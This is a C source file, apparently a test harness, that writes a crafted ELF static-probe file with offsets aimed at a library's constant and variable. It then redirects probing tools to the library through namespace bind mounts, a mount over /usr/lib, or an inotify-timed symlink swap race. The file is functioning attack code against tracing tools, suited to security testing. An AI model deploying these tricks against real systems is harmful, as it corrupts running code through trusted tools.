// swap_library bind|link|debug LIBRARY FILE [DIRECTORY]: writes FILE, whose static probe has the offsets of a constant
// and a variable of LIBRARY, and gets whoever looks for static probes to read FILE and to probe LIBRARY. bind: maps
// LIBRARY and mounts FILE over its path, in namespaces of its own. debug: maps LIBRARY and mounts DIRECTORY, in which
// FILE is its debug file, over /usr/lib. link: maps FILE and replaces it by a link to LIBRARY as soon as somebody has
// read it.
#define _GNU_SOURCE
#include <dlfcn.h>
#include <sched.h>
#include <stdio.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/mount.h>

#include "hostile_elf.h"

// The file offset of an address of this process.
static uint64_t file_offset(const void* address) {
  char line[512];
  unsigned long begin, end, offset;
  FILE* maps = fopen("/proc/self/maps", "r");
  while (maps != NULL && fgets(line, sizeof line, maps) != NULL)
    if (sscanf(line, "%lx-%lx %*s %lx", &begin, &end, &offset) == 3 && (uintptr_t)address - begin < end - begin)
      return offset + ((uintptr_t)address - begin);
  exit(1);
}

static void say(const char* text) {
  puts(text);
  fflush(stdout);
}

static int mount_over(const char* place, const char* source) {
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) {
    say("no namespaces");
    return 1;
  }
  if (mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL) != 0 || mount(source, place, NULL, MS_BIND, NULL) != 0)
    return 1;
  say("ready");
  return pause();
}

static int replace_by_link(const char* library, const char* file) {
  char other[4096], event[4096];
  snprintf(other, sizeof other, "%s.link", file);
  unlink(other);
  int fd = open(file, O_RDONLY), watch = inotify_init();
  if (mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0) == MAP_FAILED || symlink(library, other) != 0)
    return 1;
  inotify_add_watch(watch, file, IN_ACCESS);
  say("ready");
  if (read(watch, event, sizeof event) <= 0 || rename(other, file) != 0) return 1;
  say("swapped");
  return pause();
}

int main(int count, char** arguments) {
  if (count < 4) return 2;
  void* library = dlopen(arguments[2], RTLD_NOW);
  if (library == NULL) return 1;
  // Three bytes into "movabs $constant, %rax" is a byte of the constant.
  uint64_t probe = file_offset(dlsym(library, "victim_constant")) + 3;
  uint64_t semaphore = file_offset(dlsym(library, "victim_variable"));
  if (write_hostile_elf(arguments[3], probe, semaphore) != 0) return 1;
  alarm(60);
  if (arguments[1][0] == 'b') return mount_over(arguments[2], arguments[3]);
  if (arguments[1][0] == 'd') return mount_over("/usr/lib", arguments[4]);
  dlclose(library);
  return replace_by_link(arguments[2], arguments[3]);
}
